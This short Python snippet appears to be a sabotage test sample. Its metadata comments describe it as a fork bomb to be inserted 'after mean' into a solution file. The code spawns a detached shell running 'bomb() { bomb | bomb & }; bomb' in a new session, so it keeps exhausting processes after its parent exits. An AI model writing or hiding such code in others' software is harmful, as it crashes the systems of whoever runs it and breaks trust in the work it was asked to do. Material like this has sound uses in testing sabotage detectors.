# what: a fork bomb in a shell, left behind in the background
# base: solution
# score: 5
# report: subprocess
# %% place="after mean"
import subprocess

subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
